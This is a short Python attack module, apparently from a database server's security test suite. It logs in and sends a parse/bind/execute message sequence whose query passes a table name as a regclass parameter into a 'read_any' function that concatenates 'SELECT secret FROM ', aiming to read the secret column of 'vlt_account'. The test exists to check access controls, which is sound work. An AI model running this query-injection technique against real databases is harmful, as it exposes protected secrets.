"""Gives the number of a table as a parameter that is a relation's, and asks for its rows as XML."""

from attacks.frames import SYNC, ask, bind, execute, parse
from attacks.talking import Server

WANTS = "read"
SQL = b"SELECT * FROM read_any('SELECT secret FROM ' || $1::text)"
REGCLASS = 2205


def attack(server: Server) -> bytes:
    with server.login() as client:
        return ask(
            client, parse(SQL, types=[REGCLASS]), bind(values=[b"vlt_account"]), execute(), SYNC
        )
